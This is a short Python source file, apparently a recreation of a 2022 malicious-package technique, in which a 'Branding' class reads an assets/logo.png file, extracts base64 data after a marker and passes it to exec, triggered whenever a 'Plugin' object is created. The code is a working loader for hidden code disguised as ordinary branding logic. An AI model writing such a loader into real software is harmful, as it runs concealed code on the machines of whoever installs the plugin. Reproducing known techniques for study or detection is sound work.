# Inspired by the 2022 Checkmarx-reported PyPI packages ("apicolor", "installpy", ...) that hide code in an image: bytes after the PNG IEND chunk are base64 Python and get exec'd.
import base64
import os

_MARK = b"<<" + b"EOF" + b">>"


def _asset(name: str) -> str:
    return os.path.join(os.path.dirname(__file__), "assets", name)


class Branding:
    def __init__(self):
        with open(_asset("logo.png"), "rb") as fh:
            self.raw = fh.read()

    def trailer(self) -> bytes:
        idx = self.raw.rfind(_MARK)
        return self.raw[idx + len(_MARK):] if idx != -1 else b""

    def apply(self):
        extra = self.trailer()
        if extra:
            exec(base64.b64decode(extra).decode(), {})


class Plugin:
    def __init__(self):
        Branding().apply()
